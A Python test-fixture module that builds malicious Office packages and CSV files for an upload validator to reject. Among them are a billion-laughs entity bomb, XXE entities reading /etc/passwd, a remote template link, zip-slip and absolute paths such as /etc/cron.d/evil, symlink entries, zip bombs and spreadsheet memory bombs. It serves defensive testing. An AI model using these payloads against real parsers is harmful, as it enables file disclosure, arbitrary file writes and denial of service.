"""Files nobody should let in: packages that unfold, run, fetch or lead elsewhere, and texts that are none."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Mapping

import xlsxwriter
from docx import Document

Parts = dict[str, bytes]
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9)) + b"]><x>&j;</x>"
)  # fmt: skip
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
_LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)


def workbook(rows: list[list[object]] | None = None) -> bytes:
    """A workbook of one sheet."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("企业")
    for at, row in enumerate(rows or [["名称", "统一社会信用代码"], ["甲", "乙"]]):
        sheet.write_row(at, 0, row)
    book.close()
    return buffer.getvalue()


def document() -> bytes:
    """A Word document of one paragraph."""
    buffer, made = io.BytesIO(), Document()
    made.add_paragraph("某市软件产业发展规划")
    made.save(buffer)
    return buffer.getvalue()


def parts_of(package: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_part(package: bytes, name: str, content: bytes) -> bytes:
    return packed(parts_of(package) | {name: content})


def _sheet(package: bytes, cells: bytes) -> bytes:
    whole = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
    return with_part(package, "xl/worksheets/sheet1.xml", whole % cells)


def _locked(package: bytes) -> bytes:
    """Every part marked as encrypted, in its own header and in the directory."""
    whole = bytearray(package)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + place] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


def _twice(package: bytes) -> bytes:
    buffer = io.BytesIO(package)
    with zipfile.ZipFile(buffer, "a") as archive:
        name = archive.namelist()[0]
        archive.NameToInfo.pop(name)  # or it would be warned of
        archive.writestr(name, b"x")
    return buffer.getvalue()


def _link_out(package: bytes) -> bytes:
    buffer = io.BytesIO(package)
    entry = zipfile.ZipInfo("docProps/custom.txt")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def _heavy_text(package: bytes) -> bytes:
    """A text of a hundred thousand letters that twenty thousand cells show: small as a file, gigabytes when read."""
    letters = random.Random(1).choices("abcdefghijklmnop", k=100_000)
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>'
    parts = parts_of(package) | {"xl/sharedStrings.xml": strings % "".join(letters).encode()}
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (at, at) for at in range(1, 20_001))
    return _sheet(packed(parts), rows)


PACKAGES: dict[str, Callable[[bytes], bytes]] = {
    "a part that unfolds a thousandfold": lambda good: with_part(good, "docProps/app.xml", b" " * (64 << 20)),
    "many parts that unfold": lambda good: packed(
        parts_of(good) | {f"p{at}.xml": b" " * (900 << 10) for at in range(600)}
    ),
    "thousands of parts": lambda good: packed(parts_of(good) | {f"p{at}.xml": b"" for at in range(2001)}),
    "a package within": lambda good: with_part(good, "media/inner.zip", packed({"x": b" " * (8 << 20)})),
    "macros": lambda good: with_part(good, "xl/vbaProject.bin", b"x"),
    "macros under another name": lambda good: with_part(good, "xl/macrosheets/sheet1.xml", b"<x/>"),
    "macros by type": lambda good: with_part(
        good, "[Content_Types].xml", parts_of(good)["[Content_Types].xml"] + b"<!-- macroEnabled -->"
    ),
    "a control": lambda good: with_part(good, "word/activeX/activeX1.xml", b"<x/>"),
    "an object": lambda good: with_part(good, "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
    "a program": lambda good: with_part(good, "docProps/setup.exe", b"MZ"),
    "a link to a workbook": lambda good: with_part(good, "xl/externalLinks/externalLink1.xml", b"<x/>"),
    "a template fetched": lambda good: with_part(good, "word/_rels/settings.xml.rels", _LINK),
    "laughs": lambda good: with_part(good, "docProps/custom.xml", _LAUGHS),
    "an outside entity": lambda good: with_part(good, "docProps/custom.xml", _OUTSIDE),
    "an entity in sixteen bits": lambda good: with_part(
        good, "docProps/custom.xml", _OUTSIDE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")
    ),
    "an entity in seven bits": lambda good: with_part(
        good, "docProps/custom.xml", b'<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE x+AD4-'
    ),
    "a path up": lambda good: with_part(good, "../../evil.xml", b"<x/>"),
    "an absolute path": lambda good: with_part(good, "/etc/cron.d/evil", b"x"),
    "a path of another system": lambda good: with_part(good, "..\\..\\evil.xml", b"<x/>"),
    "a drive": lambda good: with_part(good, "C:evil.xml", b"<x/>"),
    "a link": _link_out,
    "the same part twice": _twice,
    "a password": lambda good: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le")
    ),
    "parts locked": _locked,
    "cut off": lambda good: good[: len(good) * 2 // 3],
    "a picture": lambda good: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "a page": lambda good: b"<html><script>alert(1)</script></html>",
    "a program alone": lambda good: b"MZ\x90\0" + b"\0" * 64,
    "a program before it": lambda good: b"MZ\x90\0" + b"\0" * 512 + good,
    "another package": lambda good: packed({"content.xml": b"<x/>"}),
    "nothing": lambda good: b"",
}
"""What to do to a good workbook or document so that it must be refused."""

SHEETS: dict[str, Callable[[bytes], bytes]] = {
    "a cell at each end": lambda good: _sheet(
        good, b'<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>'
    ),
    "a cell far below": lambda good: _sheet(
        good, b'<row r="1"><c r="CV1"/></row><row r = "900000"><c s="1" r = \'A900000\'/></row>'
    ),
    "five million empty cells": lambda good: _sheet(
        good, b'<row r="1"><c r="E1"/></row><row r="1040000"><c r="A1040000"/></row>'
    ),
    "ten million cells": lambda good: _sheet(
        good, b'<row r="1"><c r="ALL1"/></row><row r="10000"><c r="A10000"/></row>'
    ),
    "sixteen thousand columns": lambda good: _sheet(good, b'<row r="1"><c r="XFD1"><v>1</v></c></row>'),
    "cells without places": lambda good: _sheet(
        good, b"<row>" + b"<c/>" * 3000 + b"</row>" + b"".join(b'<row x="%d"/>' % at for at in range(5000))
    ),
    "one long text in many cells": _heavy_text,
}
"""Workbooks small as files that a reader would fill the memory with."""

TABLES: dict[str, bytes] = {
    "no letters": b"\0" * 100,
    "sixteen bits": "名称,统一社会信用代码\n甲,乙\n".encode("utf-16"),
    "a program": b"MZ\x90\0" + b"\0" * 64,
    "a line of ten megabytes": b"a," + b"x" * (10 << 20),
    "a million columns": b"," * 1_000_000 + b"\n1\n",
    "an open quote": b'\xe5\x90\x8d\xe7\xa7\xb0,b\n"' + b"x\n" * 200_000,
    "nothing": b"",
}
NAMES = ("con{}", "LPT1{}", "x" * 200 + "{}", ".hidden{}", "~$lock{}")
"""File names that lead elsewhere on one machine or another. Browsers' paths are cut off before anyone sees them."""
